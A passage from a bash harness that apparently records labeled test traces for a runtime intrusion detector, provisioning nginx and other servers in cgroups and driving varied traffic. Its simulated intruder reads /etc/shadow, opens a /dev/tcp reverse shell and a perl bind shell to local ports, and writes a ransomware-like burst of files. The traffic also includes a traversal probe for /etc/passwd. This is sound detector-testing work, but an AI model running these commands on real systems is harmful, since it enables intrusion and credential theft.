      tomcat10) systemctl disable tomcat10 >/dev/null 2>&1 || true; svc=tomcat10 ;;
      apache2) update-rc.d apache-htcacheclean disable >/dev/null 2>&1 || true; svc=apache2 ;;
      # lighttpd's postinst enables its systemd unit (and an init script; it would listen on port 80).
      lighttpd) systemctl disable lighttpd >/dev/null 2>&1 || true; svc=lighttpd ;;
      # prometheus's postinst enables its systemd unit (and an init script; it would listen on :9090).
      prometheus) systemctl disable prometheus >/dev/null 2>&1 || true; svc=prometheus ;;
      # rsyslog's postinst enables its systemd unit; only when this script installed it (a
      # system rsyslog that was there before is left alone).
      rsyslog) systemctl disable rsyslog >/dev/null 2>&1 || true; svc=rsyslog ;;
      # samba's postinst enables smbd, nmbd and samba-ad-dc (units and init scripts).
      samba)
        for svc in nmbd samba-ad-dc smbd; do
          systemctl disable "$svc" >/dev/null 2>&1 || true
          service "$svc" stop >/dev/null 2>&1 || true
          update-rc.d "$svc" disable >/dev/null 2>&1 || true
        done ;;
      # varnish's postinst enables its units varnish (:6081 and :6082) and varnishncsa (and
      # their init scripts).
      varnish)
        systemctl disable varnishncsa >/dev/null 2>&1 || true
        service varnishncsa stop >/dev/null 2>&1 || true
        update-rc.d varnishncsa disable >/dev/null 2>&1 || true
        systemctl disable varnish >/dev/null 2>&1 || true; svc=varnish ;;
      # slapd has an init script only (its postinst starts it unless told not to).
      slapd) svc=slapd ;;
      # php8.2-fpm's postinst enables its systemd unit (and an init script).
      php8.2-fpm) systemctl disable php8.2-fpm >/dev/null 2>&1 || true; svc=php8.2-fpm ;;
      # rabbitmq-server's postinst enables its unit (and an init script) and erlang-base's
      # epmd.socket and epmd.service (a system epmd on :4369).
      rabbitmq-server)
        systemctl disable epmd.socket epmd.service >/dev/null 2>&1 || true
        systemctl stop epmd.socket epmd.service >/dev/null 2>&1 || true
        systemctl disable rabbitmq-server >/dev/null 2>&1 || true; svc=rabbitmq-server ;;
      # unbound's postinst enables its systemd unit, unbound-resolvconf (which would point
      # /etc/resolv.conf at it) and an init script.
      unbound) systemctl disable unbound unbound-resolvconf >/dev/null 2>&1 || true; svc=unbound ;;
      # mosquitto's postinst enables its systemd unit (and an init script; it would listen on
      # localhost:1883).
      mosquitto) systemctl disable mosquitto >/dev/null 2>&1 || true; svc=mosquitto ;;
      *) continue ;;
    esac
    service "$svc" stop >/dev/null 2>&1 || true
    update-rc.d "$svc" disable >/dev/null 2>&1 || true
    if [ "$p" = postgresql ]; then pg_ctlcluster 15 main stop >/dev/null 2>&1 || true; fi
  done
  # php-sqlite3's postinst enables its extensions for every PHP SAPI; only lighttpd's php-cgi
  # uses them: apache's mod_php and the php CLI (its cron job) keep the extensions they had
  # when their traces were recorded.
  phpdismod -s apache2 sqlite3 pdo_sqlite
  phpdismod -s cli sqlite3 pdo_sqlite
}

# --- processes in cgroups -----------------------------------------------------------------

# launch SERVER USER CMD...: runs CMD as USER (with a clean environment) in the cgroup
# dw-eval/SERVER, in the background; its pid is in LAUNCHED. The process joins the cgroup
# before it execs setpriv, so the exec chain setpriv -> CMD is inside the cgroup, as a service
# manager would start it.
# A USER name runs with its primary group, which need not be named after it (vcache's is
# varnish: setpriv refuses --regid=vcache, so nothing would run). USER may also be UID:GID,
# the credentials a server process that dropped its privileges itself has (no name lookups,
# no supplementary groups).
launch() {
  local server=$1 user=$2 creds
  shift 2
  case $user in
    *:*) creds=(--reuid="${user%%:*}" --regid="${user#*:}" --clear-groups) ;;
    *) creds=(--reuid="$user" --regid="$(id -g "$user")" --init-groups) ;;
  esac
  env -i PATH="$SYS_PATH" HOME=/nonexistent LANG=C.UTF-8 \
    sh -c 'cg=$1; shift; echo $$ >"$cg/cgroup.procs" && cd / && exec setpriv "$@"' \
    sh "$CG_MOUNT/$CG_BASE/$server" "${creds[@]}" "$@" </dev/null >>"$WORK/$server.out" 2>&1 &
  LAUNCHED=$!
  PIDS+=("$LAUNCHED")
}

# admin SERVER USER CMD...: an operator's command run inside the server's cgroup, as
# `kubectl exec` runs one in a pod; waits for it.
admin() {
  launch "$@"
  wait "$LAUNCHED" || die "command in $1 failed: ${*:3}"
  forget "$LAUNCHED"
}

# forget PID: PID was waited for; never signal it again (its number may be reused).
forget() {
  local kept=() p
  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && [ "$p" != "$1" ] && kept+=("$p"); done
  PIDS=("${kept[@]:-}")
}

# Waits for a live driftwatch command's "ready" line in log file $1.
wait_ready() {
  for _ in $(seq 1 150); do grep -q "ready" "$1" 2>/dev/null && return 0; sleep 0.1; done
  cat "$1" >&2
  return 1
}

# until_ok CMD...: retries CMD for up to 15 s.
until_ok() {
  for _ in $(seq 1 150); do "$@" >/dev/null 2>&1 && return 0; sleep 0.1; done
  die "timed out waiting for: $*"
}

REC_PID=
REC_OUT=
REC_TMP=
# rec_start SERVER KIND: records testdata/SERVER/KIND.dwt from cgroup dw-eval/SERVER (the
# trace is moved there by rec_stop, so a failed run leaves the old one in place).
rec_start() {
  mkdir -p "testdata/$1"
  REC_OUT=testdata/$1/$2.dwt
  REC_TMP=$WORK/$1-$2.dwt
  # --syscalls: the traces also carry each syscall's first use, for the seccomp export.
  "$DW" record --out "$REC_TMP" --cgroup "$CG_BASE/$1" --syscalls \
    --duration $((TRAIN_SECONDS + 600)) \
    2>"$WORK/record-$1-$2.log" &
  REC_PID=$!
  PIDS+=("$REC_PID")
  wait_ready "$WORK/record-$1-$2.log" || die "driftwatch record did not start"
}
rec_stop() {
  sleep 1
  kill -INT "$REC_PID"
  wait "$REC_PID" || { cat "$WORK"/record-*.log >&2; die "driftwatch record failed"; }
  forget "$REC_PID"
  mv "$REC_TMP" "$REC_OUT"
  tail -n 1 "$WORK"/record-*.log | grep recorded >&2 || true
  rm -f "$WORK"/record-*.log
}

# heldout_begin SERVER PHASE: a fresh provisioning, PHASE's deploy, the start, and the
# recording of testdata/SERVER/PHASE.dwt; HELDOUT_T0 is when it began.
HELDOUT_T0=0
heldout_begin() {
  "$1_provision"
  "$1_$2_deploy"
  "$1_start"
  rec_start "$1" "$2"
  HELDOUT_T0=$SECONDS
}
# heldout_end SERVER PHASE ROUNDS: the recording's length and ROUNDS reported, the recording
# and the server stopped.
heldout_end() {
  echo "record-testdata: $1: $2 recorded for $((SECONDS - HELDOUT_T0)) s, $3 rounds" >&2
  rec_stop
  "$1_stop"
}

# stop_pid PID SIGNAL: stops a server the way its init script would and waits for it.
stop_pid() {
  kill "-$2" "$1" 2>/dev/null || true
  wait "$1" 2>/dev/null || true
  forget "$1"
}

# A peer outside the cgroup that accepts and closes connections (the intruder's side).
start_peer() {
  "$WORKLOAD_BIN" --serve-forever "$1" &
  PIDS+=($!)
}

# start_relays PORT BASE NET A...: for each A, a relay outside the cgroup on
# 127.0.0.1:(BASE + A) that connects to 127.0.0.1:PORT from NET.A (clients or application
# servers with other source addresses: NET 127.0.0, 127.0.3, ...). Dies if a port is taken.
start_relays() {
  local port=$1 base=$2 net=$3 a
  shift 3
  for a in "$@"; do
    if ss -Hltn "sport = :$((base + a))" | grep -q .; then die "port $((base + a)) is in use"; fi
    socat "TCP-LISTEN:$((base + a)),bind=127.0.0.1,reuseaddr,fork" \
      "TCP:127.0.0.1:$port,bind=$net.$a" &
    PIDS+=($!)
  done
}

# The intruder's script, run as the server's user inside its cgroup: look around, try the
# credential file, call home, open a bind shell, write many files into the data dir $1.
intruder_script() {
  cat <<SH
cd $1
id >/dev/null
uname -a >/dev/null
read -r line </etc/shadow || true
bash -c 'exec 3<>/dev/tcp/127.0.0.1/$C2_PORT && echo hello >&3' || true
perl -MIO::Socket::INET -e 'IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => $BIND_PORT, Listen => 1, ReuseAddr => 1) or die; sleep 1' || true
i=0
while [ \$i -lt $BURST_FILES ]; do echo "\$i" >"burst-\$i.enc"; i=\$((i + 1)); done
SH
}

# inject_shell SERVER USER DATA_DIR [MORE_SCRIPT]: the intruder's script (and MORE_SCRIPT, the
# workload's further techniques) run by /bin/sh as USER inside the server's cgroup (an
# exploited server process executing a shell).
inject_shell() {
  launch "$1" "$2" /bin/sh -c "$(intruder_script "$3")
${4:-}"
  wait "$LAUNCHED" || true
  forget "$LAUNCHED"
}

# write_labels SERVER DATA_DIR [EXTRA_JSON_OBJECTS] [SHELL_KNOWN]: drift.labels.json from what
# inject_shell does (and the server-specific extras). With SHELL_KNOWN set, the workload
# itself runs /bin/sh in training, so the intruder's shell is not a required label. Labels with "required": false are consequences of
# the injection (what the intruder's tools load and open); a finding matching one is not a
# false positive, and missing one is not a miss.
write_labels() {
  local extra=${3:-} shell_required=""
  [ -n "${4:-}" ] && shell_required='"required": false, '
  # Exec events name the binary the kernel ran: /bin/sh resolves to dash on Debian.
  local SHELL_NAME
  SHELL_NAME=$(basename "$(readlink -f /bin/sh)")
  cat >"testdata/$1/drift.labels.json" <<JSON
[
  {"kind": "exec", "subject": "*/$SHELL_NAME", $shell_required"what": "a shell spawned inside the server's cgroup (/bin/sh, that is $SHELL_NAME)"},
  {"kind": "exec", "subject": "*/id", "what": "the intruder runs id"},
  {"kind": "exec", "subject": "*/uname", "what": "the intruder runs uname -a"},
  {"kind": "file", "subject": "/etc/shadow", "what": "the intruder tries to read the password hashes"},
  {"kind": "exec", "subject": "*/bash", "what": "bash started for a /dev/tcp reverse shell"},
  {"kind": "network", "subject": "127.0.0.1:$C2_PORT", "what": "reverse shell connects to a new peer"},
  {"kind": "exec", "subject": "*/perl", "what": "perl started for a bind shell"},
  {"kind": "network", "subject": "listen 127.0.0.1:$BIND_PORT", "what": "bind shell listens on a new port"},
  {"kind": "file", "subject": "$2/burst-*.enc", "what": "$BURST_FILES new files written into the data dir"},
  {"kind": "rate", "subject": "*", "what": "write burst: $BURST_FILES file creations in well under a second"},
  {"kind": "syscall", "subject": "*", "what": "syscalls the intruder's tools (and the rogue master's replication) make that the server never made"},
  {"kind": "file", "subject": "/dev/null", "required": false, "what": "the intruder's shell redirects output"},
  {"kind": "file", "subject": "/dev/tty", "required": false, "what": "bash probes its terminal"},
  {"kind": "file", "subject": "/dev/urandom", "required": false, "what": "perl seeds its hash randomisation"},
  {"kind": "file", "subject": "/proc/filesystems", "required": false, "what": "id (libselinux) checks for selinuxfs"},
  {"kind": "file", "subject": "/usr/share/locale/*", "required": false, "what": "coreutils look for message catalogs"},
  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/libselinux.so*", "required": false, "what": "library loaded by id"},
  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/libpcre2-8.so*", "required": false, "what": "library loaded by id"},
  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/libtinfo.so*", "required": false, "what": "library loaded by bash"},
  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/libcrypt.so*", "required": false, "what": "library loaded by perl"},
  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/perl-base/*", "required": false, "what": "perl modules loaded by the bind shell"}$extra
]
JSON
}

# --- nginx --------------------------------------------------------------------------------

NGINX_DIR=$WORK/nginx
NGINX_HTML=$NGINX_DIR/html

nginx_provision() {
  rm -rf "$NGINX_DIR"
  mkdir -p "$NGINX_DIR"/{conf,log,run,tmp} "$NGINX_HTML"/{css,js,img,uploads}
  echo "<html><body>home</body></html>" >"$NGINX_HTML/index.html"
  for i in $(seq -w 1 40); do echo "<html><body>page $i</body></html>" >"$NGINX_HTML/page$i.html"; done
  for i in $(seq 1 20); do head -c 2048 /dev/urandom >"$NGINX_HTML/img/$i.png"; done
  echo "body { color: #333 }" >"$NGINX_HTML/css/site.css"
  echo "console.log('app')" >"$NGINX_HTML/js/app.js"
  chown -R www-data:www-data "$NGINX_DIR"/{log,run,tmp} "$NGINX_HTML/uploads"
  cat >"$NGINX_DIR/conf/nginx.conf" <<CONF
worker_processes 2;
pid $NGINX_DIR/run/nginx.pid;
error_log $NGINX_DIR/log/error.log;
events { worker_connections 256; }
http {
  include /etc/nginx/mime.types;
  default_type application/octet-stream;
  access_log $NGINX_DIR/log/access.log;
  client_body_temp_path $NGINX_DIR/tmp/body;
  proxy_temp_path $NGINX_DIR/tmp/proxy;
  fastcgi_temp_path $NGINX_DIR/tmp/fastcgi;
  uwsgi_temp_path $NGINX_DIR/tmp/uwsgi;
  scgi_temp_path $NGINX_DIR/tmp/scgi;
  keepalive_timeout 5;
  server {
    listen 127.0.0.1:$NGINX_PORT;
    root $NGINX_HTML;
    index index.html;
    location / { try_files \$uri \$uri/ =404; }
    location /api/ { default_type application/json; return 200 '{"ok":true}'; }
  }
}
CONF
}

NGINX_PID=
nginx_start() {
  launch nginx www-data /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$NGINX_DIR/conf/nginx.conf" \
    -g "daemon off;"
  NGINX_PID=$LAUNCHED
  until_ok curl -sf "http://127.0.0.1:$NGINX_PORT/index.html"
}
nginx_stop() { stop_pid "$NGINX_PID" QUIT; }

# get CONCURRENCY PATH...: GETs the paths over CONCURRENCY keep-alive clients, 10 per client.
nginx_get() {
  local c=$1
  shift
  printf "http://127.0.0.1:$NGINX_PORT%s\n" "$@" | xargs -P "$c" -n 10 curl -s --max-time 5 >/dev/null
}

# Mix A: the home page, pages 01-20, the assets, images 1-10, a health check, a few scanners.
nginx_mix_a() {
  local paths=(/ /index.html /css/site.css /js/app.js /api/health /wp-login.php /.env)
  for i in $(seq -w 1 20); do paths+=("/page$i.html"); done
  for i in $(seq 1 10); do paths+=("/img/$i.png"); done
  nginx_get 3 "${paths[@]}" "${paths[@]}"
}
# Mix B: more pages (21-30 were never requested in mix A), more images, HEAD requests, other
# API calls and scanner paths, one client and then eight.
nginx_mix_b() {
  local paths=(/ /css/site.css /js/app.js /api/status /api/v1/items /admin.php /.git/config)
  for i in $(seq -w 5 30); do paths+=("/page$i.html"); done
  for i in $(seq 1 15); do paths+=("/img/$i.png"); done
  nginx_get 1 "${paths[@]}"
  nginx_get 8 "${paths[@]}" "${paths[@]}"
  curl -s -I "http://127.0.0.1:$NGINX_PORT/page07.html" "http://127.0.0.1:$NGINX_PORT/" >/dev/null
}

# A web shell or an exploited worker: the intruder's script as www-data, writing into the
# upload directory.
nginx_inject() { inject_shell nginx www-data "$NGINX_HTML/uploads"; }
nginx_labels() { write_labels nginx "$NGINX_HTML/uploads"; }

# Held out. A content deploy adds pages 41-60, images 21-30 and new css/js next to the ones
# training saw; clients come from 127.0.0.2-20 and request pages 25-60 (31-60 never
# requested before), images 5-30, the new assets and other missing paths, 12 at a time; the
# logs are rotated as logrotate does (rename, then USR1 to reopen them).
nginx_heldout_deploy() {
  for i in $(seq 41 60); do echo "<html><body>page $i (new)</body></html>" >"$NGINX_HTML/page$i.html"; done
  for i in $(seq 21 30); do head -c 3072 /dev/urandom >"$NGINX_HTML/img/$i.png"; done
  echo "@media print { body { color: #000 } }" >"$NGINX_HTML/css/print.css"
  echo "console.log('vendor')" >"$NGINX_HTML/js/vendor.js"
}
nginx_heldout_mix() {
  local paths=(/ /index.html /css/site.css /css/print.css /js/app.js /js/vendor.js /api/health
               /api/v2/orders /robots.txt /favicon.ico /xmlrpc.php)
  for i in $(seq 25 60); do paths+=("/page$i.html"); done
  for i in $(seq 5 30); do paths+=("/img/$i.png"); done
  local n=0 p
  for p in "${paths[@]}" "${paths[@]}"; do
    echo "$((2 + n % 19)) http://127.0.0.1:$NGINX_PORT$p"
    n=$((n + 1))
  done | xargs -P 12 -n 2 sh -c 'curl -s --max-time 5 --interface "127.0.0.$0" "$1" >/dev/null'
}
nginx_heldout_rotate() {
  local f
  for f in access error; do
    [ -e "$NGINX_DIR/log/$f.log.1" ] && mv "$NGINX_DIR/log/$f.log.1" "$NGINX_DIR/log/$f.log.2"
    mv "$NGINX_DIR/log/$f.log" "$NGINX_DIR/log/$f.log.1"
  done
  kill -USR1 "$(cat "$NGINX_DIR/run/nginx.pid")"
}
nginx_heldout_job() { nginx_heldout_rotate; }
nginx_heldout2_restart() { nginx_stop; nginx_start; }

# Held out, second set (heldout2). A release of the site, deployed on the provisioning side
# before the start: a blog with dated directories, docs v2, versioned assets (site.v2.css,
# app.v2.js), web fonts, photos, a sitemap and robots.txt. Clients from 127.0.0.21-60,
# alternating quiet rounds (2 at a time) and busy ones (24), with conditional and range
# requests, HTTP/1.0, POSTs to the API and query strings; the logs rotated as logrotate does
# with dateext and delaycompress (rename, `nginx -s reopen` in the container, gzip of the
# previous one); an operator inside the cgroup tests the config (`nginx -t`) and reloads it
# (`nginx -s reload`) after enabling gzip and cache headers for the blog.
nginx_heldout2_deploy() {
  local d i n
  for d in 2026-11-27 2026-11-30 2026-12-01 2026-12-02; do
    mkdir -p "$NGINX_HTML/blog/$d"
    for i in 1 2 3; do echo "<html><body>post $i of $d</body></html>" >"$NGINX_HTML/blog/$d/post-$i.html"; done
  done
  mkdir -p "$NGINX_HTML/docs/v2" "$NGINX_HTML/fonts"
  for n in install configure upgrade faq api; do echo "<html><body>docs: $n</body></html>" >"$NGINX_HTML/docs/v2/$n.html"; done
  for n in inter mono; do head -c 16384 /dev/urandom >"$NGINX_HTML/fonts/$n.woff2"; done
  for i in $(seq 31 45); do head -c 4096 /dev/urandom >"$NGINX_HTML/img/photo-$i.jpg"; done
  echo "body { color: #222; font-family: Inter }" >"$NGINX_HTML/css/site.v2.css"
  echo "console.log('app v2')" >"$NGINX_HTML/js/app.v2.js"
  printf 'User-agent: *\nDisallow: /api/\n' >"$NGINX_HTML/robots.txt"
  echo '<?xml version="1.0"?><urlset></urlset>' >"$NGINX_HTML/sitemap.xml"
}
nginx_heldout2_mix() {
  local paths=(/ /css/site.v2.css /js/app.v2.js /fonts/inter.woff2 /fonts/mono.woff2 /robots.txt
               /sitemap.xml /docs/v2/install.html /docs/v2/faq.html /docs/v2/api.html
               "/?utm_source=news&utm_campaign=$HELDOUT2_ROUND" /search?q=pricing /api/v1/cart
               /page33.html /page37.html /page40.html /img/16.png /img/19.png /old-page.html)
  local d i
  for d in 2026-11-27 2026-11-30 2026-12-01 2026-12-02; do
    for i in 1 2 3; do paths+=("/blog/$d/post-$i.html"); done
  done
  for i in $(seq 31 45); do paths+=("/img/photo-$i.jpg"); done
  heldout2_get "$NGINX_PORT" 24 21 40 1 7 "" "${paths[@]}"
  local u=http://127.0.0.1:$NGINX_PORT
  curl -s --interface 127.0.0.44 -H "If-Modified-Since: $(date -uR)" "$u/docs/v2/upgrade.html" >/dev/null
  curl -s --interface 127.0.0.45 -r 0-1023 "$u/fonts/inter.woff2" >/dev/null
  curl -s --interface 127.0.0.46 -0 "$u/blog/2026-12-02/post-1.html" >/dev/null
  curl -s --interface 127.0.0.47 -X POST -d '{"sku": 7, "qty": 2}' "$u/api/v1/cart" >/dev/null
  curl -s --interface 127.0.0.48 -I "$u/img/photo-40.jpg" >/dev/null
}
# Rotation with dateext and delaycompress: the live log gets a date suffix, nginx reopens its
# logs (logrotate's postrotate, run in the container), the previous rotation is compressed.
nginx_heldout2_job() {
  local f old stamp
  stamp=$(date +%Y%m%d-%H%M%S)
  for f in access error; do
    for old in "$NGINX_DIR/log/$f.log-"*; do
      case $old in *"*" | *.gz) ;; *) gzip "$old" ;; esac
    done
    mv "$NGINX_DIR/log/$f.log" "$NGINX_DIR/log/$f.log-$stamp"
  done
  admin nginx www-data /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$NGINX_DIR/conf/nginx.conf" -s reopen
}
nginx_heldout2_admin() {
  sed -i 's|^  keepalive_timeout 5;$|  keepalive_timeout 15;\n  gzip on;\n  gzip_types text/css application/javascript application/xml;|' \
    "$NGINX_DIR/conf/nginx.conf"
  sed -i 's|^    location /api/ |    location /blog/ { expires 1h; }\n    location /api/ |' "$NGINX_DIR/conf/nginx.conf"
  admin nginx www-data /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$NGINX_DIR/conf/nginx.conf" -t
  admin nginx www-data /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$NGINX_DIR/conf/nginx.conf" -s reload
  sleep 1
}

# Held out, third set (heldout3). Deployed before the start: a help section, a downloads
# directory with a 600 kB release archive and its version file. Clients from 127.0.1.10-59
# for help pages, every third page from 38 down, every fourth image, and paths that fail:
# missing pages, a missing older release, a CGI probe; each round one more error path in
# turn: a POST to a static page (405), a 2 MB POST (413), a malformed request line (400), a
# client that sends half a request and hangs up, a download aborted after a few kilobytes,
# and a full download of the archive. A worker killed with SIGKILL (the master starts a
# new one); a reload by HUP from outside after a config change (three workers, a directory
# listing for downloads/, a ping location); the access log truncated in place
# (copytruncate, no signal).
nginx_heldout3_deploy() {
  mkdir -p "$NGINX_HTML/help" "$NGINX_HTML/downloads"
  local n
  for n in index getting-started billing errors shortcuts contact; do
    echo "<html><body>help: $n</body></html>" >"$NGINX_HTML/help/$n.html"
  done
  head -c 600000 /dev/urandom >"$NGINX_HTML/downloads/agent-1.4.2.tar.gz"
  echo 1.4.2 >"$NGINX_HTML/downloads/LATEST"
}
nginx_heldout3_mix() {
  local paths=(/ /help/ /help/getting-started.html /help/billing.html /help/errors.html /help/shortcuts.html
               /help/contact.html /downloads/ /downloads/LATEST /status/ping /page99.html /help/faq.html
               /cgi-bin/test.cgi /downloads/agent-1.3.9.tar.gz "/index.html?lang=de")
  local i u=http://127.0.0.1:$NGINX_PORT a=127.0.1.$((10 + HELDOUT3_ROUND % 50))
  for i in $(seq 38 -3 2); do paths+=("/page$(printf %02d "$i").html"); done
  for i in $(seq 4 4 28); do paths+=("/img/$i.png"); done
  heldout3_get "$NGINX_PORT" "${paths[@]}"
  case $((HELDOUT3_ROUND % 6)) in
    0) curl -s --interface "$a" -X POST -d 'name=x' "$u/help/contact.html" >/dev/null ;;
    1) head -c 2000000 /dev/zero | curl -s --interface "$a" --max-time 5 --data-binary @- "$u/help/contact.html" >/dev/null || true ;;
    2) heldout3_raw "$NGINX_PORT" $((10 + HELDOUT3_ROUND % 50)) 'GET /help/ HTTP/9.9 extra\r\n\r\n' ;;
    3) heldout3_raw "$NGINX_PORT" $((10 + HELDOUT3_ROUND % 50)) 'GET /page05.html HTTP/1.1\r\nHost: loc' 0.3 ;;
    4) curl -s --interface "$a" --limit-rate 20k --max-time 0.5 "$u/downloads/agent-1.4.2.tar.gz" >/dev/null || true ;;
    5) curl -s --interface "$a" "$u/downloads/agent-1.4.2.tar.gz" >/dev/null ;;
  esac
}
nginx_heldout3_crash() { heldout3_kill_worker "$NGINX_PID"; }
nginx_heldout3_reload() {
  sed -i 's|^worker_processes 2;$|worker_processes 3;|' "$NGINX_DIR/conf/nginx.conf"
  sed -i 's|^    location /api/ |    location /downloads/ { autoindex on; }\n    location = /status/ping { return 204; }\n    location /api/ |' \
    "$NGINX_DIR/conf/nginx.conf"
  kill -HUP "$NGINX_PID"
  until_ok curl -sf "http://127.0.0.1:$NGINX_PORT/status/ping"
}
nginx_heldout3_maint() {
  cp "$NGINX_DIR/log/access.log" "$NGINX_DIR/log/access.log.0"
  truncate -s 0 "$NGINX_DIR/log/access.log"
}

# Held out, fourth set (heldout4). Deployed before the start: a shop (shop/index.html and
# product pages shop/p/sku-10001..10040.html), assets with a content hash in their names
# (assets/app.3f9a2c.js and .css), a maintenance page, and a config that serves it (503)
# while the file maintenance.flag exists in the document root. Clients from 127.0.2.100-199,
# 1 to 6 requests per connection, for every fifth product (another offset each round), the
# shop with query strings and without its slash (301), the hashed assets and an old hash
# that stale caches still ask for; each round one more request in turn: OPTIONS (405), a
# 9 kB URI (414), a conditional GET with the page's ETag (304), three requests pipelined on
# one connection, an HTTP/1.1 request without Host (400). The change: a maintenance window
# (the flag created from outside: 503s). The maintenance: the window ends (flag removed) and
# a release goes out (assets with a new hash, products 10041-10060), no reload.
nginx_heldout4_deploy() {
  mkdir -p "$NGINX_HTML/shop/p" "$NGINX_HTML/assets"
  echo "<html><body>shop</body></html>" >"$NGINX_HTML/shop/index.html"
  echo "<html><body>down for maintenance</body></html>" >"$NGINX_HTML/maintenance.html"
  nginx_heldout4_release 3f9a2c 10001 10040
  sed -i 's|^    location / { try_files \$uri \$uri/ =404; }$|    error_page 503 /maintenance.html;\n    location = /maintenance.html { internal; }\n    location / {\n      if (-f $document_root/maintenance.flag) { return 503; }\n      try_files $uri $uri/ =404;\n    }|' \
    "$NGINX_DIR/conf/nginx.conf"
  grep -q maintenance.flag "$NGINX_DIR/conf/nginx.conf" || die "nginx heldout4: config not changed"
}
NGINX_HELDOUT4_HASH=
# nginx_heldout4_release HASH FIRST LAST: assets under HASH, product pages FIRST-LAST.
nginx_heldout4_release() {
  echo "console.log('shop $1')" >"$NGINX_HTML/assets/app.$1.js"
  echo "body { margin: 0 } /* $1 */" >"$NGINX_HTML/assets/app.$1.css"
  local i
  for i in $(seq "$2" "$3"); do echo "<html><body>product $i</body></html>" >"$NGINX_HTML/shop/p/sku-$i.html"; done
  NGINX_HELDOUT4_HASH=$1
}
nginx_heldout4_mix() {
  local r=$HELDOUT4_ROUND i u=http://127.0.0.1:$NGINX_PORT a etag
  local paths=(/shop/ /shop "/assets/app.$NGINX_HELDOUT4_HASH.js" "/assets/app.$NGINX_HELDOUT4_HASH.css"
               /assets/app.3f9a2c.js /assets/app.0d41e7.js "/shop/?sort=price&page=$((r % 4))" /api/cart/count
               "/shop/p/sku-$((10001 + r % 60)).html" /page12.html /img/3.png)
  for i in $(seq $((10001 + r % 5)) 5 10040); do paths+=("/shop/p/sku-$i.html"); done
  heldout4_get "$NGINX_PORT" "${paths[@]}"
  a=$(heldout4_addr 1)
  case $((r % 5)) in
    0) curl -s --interface "$a" -X OPTIONS "$u/shop/" >/dev/null ;;
    1) curl -s --interface "$a" "$u/shop/p/$(head -c 9000 /dev/zero | tr '\0' x).html" >/dev/null ;;
    2) etag=$(curl -sI --interface "$a" "$u/shop/index.html" | awk 'tolower($1) == "etag:" { print $2 }' | tr -d '\r')
       curl -s --interface "$a" -H "If-None-Match: $etag" "$u/shop/index.html" >/dev/null ;;
    3) heldout3_raw "$NGINX_PORT" "$a" "GET /shop/ HTTP/1.1\r\nHost: shop\r\n\r\nGET /assets/app.$NGINX_HELDOUT4_HASH.css HTTP/1.1\r\nHost: shop\r\n\r\nGET /shop/p/sku-10007.html HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n" ;;
    4) heldout3_raw "$NGINX_PORT" "$a" 'GET /shop/ HTTP/1.1\r\n\r\n' ;;
  esac
}
nginx_heldout4_change() { touch "$NGINX_HTML/maintenance.flag"; }
nginx_heldout4_maint() {
  rm -f "$NGINX_HTML/maintenance.flag"
  nginx_heldout4_release 7b21e0 10041 10060
}
nginx_heldout4_end() { :; }

# Held out, fifth set (heldout5). Deployed before the start: the site in four languages
# (en/ fr/ de/ es/: index, about, pricing), a media directory (a 400 kB intro-720p.mp4 and
# its poster), .well-known/security.txt and favicon.ico. Clients from 127.0.3.1-250 for the
# language pages, every sixth page and every third image (another offset each round), and
# the video in 100 kB ranges as a player seeks (with an Accept-Language); each round one
# more request in turn: a traversal probe (--path-as-is, 400), TRACE (405), HTTP/2 prior
# knowledge on the HTTP/1 port, a 12 kB Cookie (400), a language directory without its
# slash (301), a multi-range request (206), a NUL in the URI (400). The change: one worker
# instead of two, open_file_cache, a log_format with timings and a separate access log
# for /media/ (log/media.log), a Content-Language header for /fr/, HUP from outside. The
# maintenance: a content sync (it/ added, es/pricing.html removed) and media.log rotated
# (renamed, USR1 from outside). The late event: the change reverted, HUP again.
nginx_heldout5_deploy() {
  local l n
  for l in en fr de es; do
    mkdir -p "$NGINX_HTML/$l"
    for n in index about pricing; do echo "<html lang=\"$l\"><body>$n ($l)</body></html>" >"$NGINX_HTML/$l/$n.html"; done
  done
  mkdir -p "$NGINX_HTML/media" "$NGINX_HTML/.well-known"
  head -c 400000 /dev/urandom >"$NGINX_HTML/media/intro-720p.mp4"
  head -c 30000 /dev/urandom >"$NGINX_HTML/media/intro-poster.jpg"
  printf 'Contact: mailto:security@example.org\nExpires: 2027-12-31T00:00:00Z\n' >"$NGINX_HTML/.well-known/security.txt"
  head -c 1150 /dev/urandom >"$NGINX_HTML/favicon.ico"
}
nginx_heldout5_mix() {
  local r=$HELDOUT5_ROUND i l u=http://127.0.0.1:$NGINX_PORT a langs=(en fr de es) off
  local paths=(/ /favicon.ico /.well-known/security.txt /media/intro-poster.jpg /css/site.css /js/app.js
               "/${langs[r % 4]}/about.html")
  for l in en fr de es it; do paths+=("/$l/" "/$l/pricing.html"); done
  for i in $(seq $((1 + r % 6)) 6 40); do paths+=("/page$(printf %02d "$i").html"); done
  for i in $(seq $((1 + r % 3)) 3 20); do paths+=("/img/$i.png"); done
  heldout5_get "$NGINX_PORT" "${paths[@]}"
  a=$(heldout5_addr 1)
  off=$((r % 4 * 100000))
  curl -s --interface "$a" -H 'Accept-Language: fr-CH, fr;q=0.9' -r "$off-$((off + 99999))" "$u/media/intro-720p.mp4" >/dev/null || true
  case $((r % 7)) in
    0) curl -s --interface "$a" --path-as-is "$u/../../etc/passwd" ;;
    1) curl -s --interface "$a" -X TRACE "$u/" ;;
    2) curl -s --interface "$a" --http2-prior-knowledge "$u/en/" ;;
    3) curl -s --interface "$a" -H "Cookie: session=$(head -c 12000 /dev/zero | tr '\0' c)" "$u/de/" ;;
    4) curl -s --interface "$a" "$u/es" ;;
    5) curl -s --interface "$a" -r 0-99,1000-1099 "$u/media/intro-poster.jpg" ;;
    6) heldout3_raw "$NGINX_PORT" "$a" 'GET /en/%00.html HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n' ;;
  esac >/dev/null 2>&1 || true
}
nginx_heldout5_change() {
  local conf=$NGINX_DIR/conf/nginx.conf
  cp "$conf" "$WORK/nginx.conf.orig"
